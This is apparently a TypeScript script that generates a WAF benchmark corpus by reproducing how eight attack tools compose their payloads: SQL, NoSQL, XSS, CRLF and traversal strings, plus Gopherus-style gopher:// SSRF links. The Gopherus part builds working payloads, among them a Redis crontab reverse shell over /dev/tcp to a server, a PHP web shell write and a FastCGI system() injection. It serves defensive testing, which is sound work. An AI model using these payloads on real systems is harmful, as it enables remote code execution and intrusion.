/**
 * Writes corpus 8's class lists (bench/waf/corpora/README.md, "An eighth corpus") from what four attack tools send,
 * transcribed in corpus-8-tools.yaml and expanded here the way each tool composes them (its random or asked-for parts
 * fixed in the YAML): skipfish's injection probes, dotdotpwn's traversal strings, Gopherus' gopher:// links, ghauri's
 * MySQL payloads, three Metasploit HTTP scanner modules' strings, XSpear's XSS test queries, crlfuzz's escapes and nosqli's
 * MongoDB injections.
 * One payload a line; a control character is written %0D, %0A, %09, %00, as the earlier corpora's lists.
 * Run: npx tsx bench/waf/corpora/generate-corpus-8.ts  (writes <tool>/<class>.txt)
 * @module
 */
import { readFileSync } from 'node:fs'
import { parse } from 'yaml'
import { add, type Lists, sample, write } from './class-lists.ts'

const DIR = new URL('./', import.meta.url)
const hex2 = (c: number): string => c.toString(16).toUpperCase().padStart(2, '0')

const T = parse(readFileSync(new URL('corpus-8-tools.yaml', DIR), 'utf8')) as any

/** skipfish: each injection test's strings, as checks.c schedules them for one parameter. */
{
  const s = T.skipfish
  /** url_encode_token: every byte <= 0x20, >= 0x80 or in the set becomes %XX (upper-case hex). */
  const urlEncodeToken = (v: string, set: string): string =>
    [...Buffer.from(v, 'latin1')].map((c) => (c <= 0x20 || c >= 0x80 || set.includes(String.fromCharCode(c)) ? `%${hex2(c)}` : String.fromCharCode(c))).join('')
  const tags = (s.xss_prefixes as string[]).map((p, i) => p + s.xss_tag.replace('{xid}', String(i).padStart(6, '0')).replace('{sid}', s.scan_id))
  const sqlHeaders = (s.sql as string[]).flatMap((q) => [`${s.sql_header_prefix}${q}`, `${s.sql_header_prefix}${q},en`])
  const lfi = (s.lfi as string[]).flatMap((v) => [v, urlEncodeToken(urlEncodeToken(v, s.enc_path), s.enc_path), `${urlEncodeToken(v, s.enc_path)}%00%2ejs`])
  const webXml = (s.web_xml as string[][]).flatMap(([step, file]) => Array.from({ length: 8 }, (_, k) => step!.repeat(k + 1) + file!))
  const lists: Lists = new Map()
  add(lists, 'xss', [...tags, ...s.xss_quotes, ...s.xml, ...s.ips.xss])
  add(lists, 'rce', [...s.shell, ...s.diff_shell, ...s.ips.rce])
  add(lists, 'sqli', [...s.sql, ...sqlHeaders, ...s.ips.sqli])
  add(lists, 'crlf', s.split)
  add(lists, 'path_traversal', [...lfi, ...webXml, ...(s.dir_listing as string[]).map((d) => d.replace('{value}', T.fill.value)), ...s.ips.path_traversal])
  add(lists, 'rfi', s.rfi)
  write('skipfish', lists)
}

/**
 * dotdotpwn: TraversalEngine's strings for OS type "generic" at the default depth 6, and a seeded sample of 100 of
 * them (the engine makes some 21,000: every dot × slash pattern at every depth, the special patterns, each with every
 * file; a sample keeps one fuzzer from outweighing the corpus while covering its encodings in proportion).
 */
{
  const d = T.dotdotpwn
  const depths = Array.from({ length: d.depth as number }, (_, i) => i + 1)
  const traversals: string[] = []
  for (const dots of d.dots as string[]) for (const slash of d.slashes as string[]) for (const k of depths) traversals.push((dots + slash).repeat(k))
  for (const p of d.special_patterns as string[]) for (const k of depths) traversals.push(p.repeat(k))
  for (const p of d.special_prefix_patterns as string[]) for (const mid of d.special_mid_patterns as string[]) for (const k of depths) traversals.push(p.repeat(512) + mid.repeat(k))
  for (const p of d.special_prefixes as string[]) for (const mid of d.special_mid_patterns as string[]) for (const k of depths) traversals.push(p + mid.repeat(k))
  const files = [...d.unix_files, ...d.windows_files] as string[]
  const firstSlashDeleted = (f: string): string => (f.startsWith('/') || f.startsWith('\\') ? f.slice(1) : f)
  /** fname_slash_encoding: the file's separators become the longest slash form the traversal holds (its list, reversed). */
  const allSlashes = [...(d.slashes as string[]), ...(d.special_slashes as string[])].reverse()
  const slashEncoded = (fname: string, trav: string): string => {
    if (!fname.includes('/') && !fname.includes('\\')) return fname
    const form = allSlashes.find((s) => trav.includes(s))!
    return fname.includes('/') ? fname.replaceAll('/', form) : fname.replaceAll('\\', form)
  }
  const all: string[] = []
  for (const trav of traversals) for (const f of files) all.push(trav + slashEncoded(firstSlashDeleted(f), trav))
  for (const f of files)
    for (const mid of d.special_mid_patterns as string[])
      for (const k of depths) for (const suffix of d.special_suffixes as string[]) all.push(mid.repeat(k) + slashEncoded(firstSlashDeleted(f), mid) + suffix)
  const lists: Lists = new Map()
  add(lists, 'path_traversal', sample([...new Set(all)], 100, 801))
  write('dotdotpwn', lists)
}

/** Gopherus: the gopher:// link each script prints for the answers in the YAML. */
{
  const g = T.gopherus
  /**
   * Python 2's urllib.quote_plus (safe: letters, digits, `_.-`; space → `+`), then the scripts' replacements
   * (`+` → `%20`, `%2F` → `/`, and for most scripts `%25` → `%`, `%3A` → `:`).
   */
  const quotePlus = (v: string): string =>
    [...Buffer.from(v, 'latin1')].map((c) => (c === 0x20 ? '+' : /[A-Za-z0-9_.-]/.test(String.fromCharCode(c)) ? String.fromCharCode(c) : `%${hex2(c)}`)).join('')
  const gopherusQuote = (v: string, all = true): string => {
    const q = quotePlus(v).replaceAll('+', '%20').replaceAll('%2F', '/')
    return all ? q.replaceAll('%25', '%').replaceAll('%3A', ':') : q
  }
  const resp = (...lines: string[]): string => lines.map((l) => `${l}\r\n`).join('')
  const redisTail = (dir: string, dbfile: string): string =>
    resp('*4', '$6', 'config', '$3', 'set', '$3', 'dir', `$${dir.length}`, dir) + resp('*4', '$6', 'config', '$3', 'set', '$10', 'dbfilename', `$${dbfile.length}`, dbfile) + resp('*1', '$4', 'save') + '\n'
  const reverseShell = ({ server, crontab_dir }: { server: string; crontab_dir: string }): string => {
    const cmd = `*/1 * * * * bash -c "sh -i >& /dev/tcp/${server}/1234 0>&1"`
    const payload = resp('*1', '$8', 'flushall', '*3', '$3', 'set', '$1', '1') + `$${cmd.length + 5}\r\n\n\n${cmd}\n\n\n\r\n` + redisTail(crontab_dir, 'root')
    return `gopher://127.0.0.1:6379/_${gopherusQuote(payload)}`
  }
  const phpShell = ({ web_root, php }: { web_root: string; php: string }): string => {
    const payload = resp('*1', '$8', 'flushall', '*3', '$3', 'set', '$1', '1') + `$${php.length + 4}\r\n\n\n${php}\n\n\r\n` + redisTail(web_root, 'shell.php')
    return `gopher://127.0.0.1:6379/_${gopherusQuote(payload)}`
  }
  const smtp = ({ from, to, subject, msg }: { from: string; to: string; subject: string; msg: string }): string =>
    `gopher://127.0.0.1:25/_${gopherusQuote([`MAIL FROM:${from}`, `RCPT To:${to}`, 'DATA', `From:${from}`, `Subject:${subject}`, `Message:${msg}`, '.'].join('%0A'))}`
  const zabbix = (cmd: string): string => `gopher://127.0.0.1:10050/_${gopherusQuote(`system.run[(${cmd});sleep 2s]`)}`
  const memcached = (code: string): string => `gopher://127.0.0.1:11211/_${gopherusQuote(`%0d%0aset SpyD3r 4 0 ${code.length}%0d%0a${code}%0d%0a`)}`
  const toHex = (s: string): string => Buffer.from(s, 'latin1').toString('hex')
  const mysql = (user: string, query: string): string => {
    const auth =
      (0xa3 + user.length - 4).toString(16) +
      '00000185a6ff0100000001210000000000000000000000000000000000000000000000' +
      toHex(user) +
      '00006d7973716c5f6e61746976655f70617373776f72640066035f6f73054c696e75780c5f636c69656e745f6e616d65086c' +
      '69626d7973716c045f7069640532373235350f5f636c69656e745f76657273696f6e06352e372e3232095f706c6174666f726d' +
      '067838365f36340c70726f6772616d5f6e616d65056d7973716c'
    const hex = query.trim() === '' ? auth : `${auth}${(query.length + 1).toString(16).padStart(2, '0')}00000003${toHex(query)}0100000001`
    return `gopher://127.0.0.1:3306/_%${hex.match(/../g)!.join('%')}`
  }
  const fastcgi = (filename: string, command: string): string => {
    const length = command.length + 52
    const data =
      `\x0f\x10SERVER_SOFTWAREgo / fcgiclient \x0b\tREMOTE_ADDR127.0.0.1\x0f\x08SERVER_PROTOCOLHTTP/1.1\x0e\x02` +
      `CONTENT_LENGTH${length}\x0e\x04REQUEST_METHODPOST\tKPHP_VALUEallow_url_include = On\n` +
      `disable_functions = \nauto_prepend_file = php://input\x0f\x0bSCRIPT_FILENAME${filename}\r\x01DOCUMENT_ROOT/`
    const end = `\x01\x04\x00\x01\x00\x00\x00\x00\x01\x05\x00\x01\x00${String.fromCharCode(length)}\x04\x00<?php system('${command}');die('-----Made-by-SpyD3r-----\n');?>\x00\x00\x00\x00`
    const start = `\x01\x01\x00\x01\x00\x08\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x01\x04\x00\x01${String.fromCharCode(Math.floor(data.length / 256), data.length % 256, data.length % 8)}\x00`
    return `gopher://127.0.0.1:9000/_${gopherusQuote(start + data + end, false)}`
  }
  const lists: Lists = new Map()
  add(lists, 'ssrf', [
    ...g.redis_reverse_shell.map(reverseShell),
    ...g.redis_php_shell.map(phpShell),
    ...g.smtp.map(smtp),
    ...(g.zabbix as string[]).map(zabbix),
    ...(g.php_memcached as string[]).map(memcached),
    'gopher://127.0.0.1:11211/_%0d%0adelete%20SpyD3r%0d%0a',
    ...(g.mysql.queries as string[]).map((q) => mysql(g.mysql.user, q)),
    ...(g.fastcgi.commands as string[]).map((c) => fastcgi(g.fastcgi.filename, c)),
  ])
  write('gopherus', lists)
}

/** ghauri: each MySQL payload with each of its prefix/suffix pairs, a seeded sample of 60 of the 158. */
{
  const h = T.ghauri
  const fill = (p: string): string => p.replaceAll('[RANDNUM]', h.randnum).replaceAll('[SLEEPTIME]', h.sleeptime)
  const all = (h.payloads as Array<[string, string]>).flatMap(([payload, set]) => (h.comment_sets[set] as Array<[string, string]>).map(([pref, suf]) => pref + fill(payload) + suf))
  const lists: Lists = new Map()
  add(lists, 'sqli', sample([...new Set(all)], 60, 802))
  write('ghauri', lists)
}

/** Metasploit: the blind and error SQL scanners' strings, and a seeded sample of 40 of the traversal scanner's 180. */
{
  const m = T.metasploit
  const fill = (t: string): string => t.replaceAll('{r1}', String(m.rnum + 1)).replaceAll('{r}', String(m.rnum))
  const blind = (m.blind_sql as string[][]).flatMap((pair) => (m.blind_sql_prefixes as string[]).flatMap((p) => pair.map((t) => p + fill(t))))
  const depths = Array.from({ length: m.traversal_depth as number }, (_, i) => i + 1)
  const traversal = (m.traversal_triggers as string[]).flatMap((t) => depths.flatMap((d) => (m.traversal_files as string[]).map((f) => t.repeat(d) + f)))
  const lists: Lists = new Map()
  add(lists, 'sqli', [...blind, ...m.error_sql])
  add(lists, 'path_traversal', sample(traversal, 40, 803))
  write('metasploit', lists)
}

/** XSpear: its event-handler and tag probes (a seeded sample of 30 of the 103 handler probes) and its XSS payloads. */
{
  const x = T.xspear
  const events = (x.event_handlers as string[]).map((ev) => x.event_template.replace('{ev}', ev))
  const lists: Lists = new Map()
  add(lists, 'xss', [x.on_any, ...sample(events, 30, 804), ...x.tags, ...x.common])
  write('xspear', lists)
}

/** crlfuzz: each escape with a line break in it, then the header it injects. */
{
  const c = T.crlfuzz
  const lists: Lists = new Map()
  add(lists, 'crlf', (c.escapes as string[]).map((e) => e + c.header))
  write('crlfuzz', lists)
}

/** nosqli: its JavaScript and timing injections (a seeded sample of 60) and its whole-object injections. */
{
  const n = T.nosqli
  const js: string[] = []
  for (const q of n.quote_types as string[])
    for (const p of n.js_prefixes as string[])
      for (const s of n.js_suffixes as string[]) for (const j of [...n.js_true, ...n.js_false] as string[]) js.push((p + j + s).replaceAll("'", q))
  const timing = (n.js_prefixes as string[]).flatMap((p) => (n.js_suffixes as string[]).flatMap((s) => (n.timing as string[]).flatMap((t) => [p + t + s, `"${p}${t}${s}"`])))
  const lists: Lists = new Map()
  add(lists, 'nosqli', [...sample([...new Set([...js, ...timing])], 60, 805), ...n.objects])
  write('nosqli', lists)
}
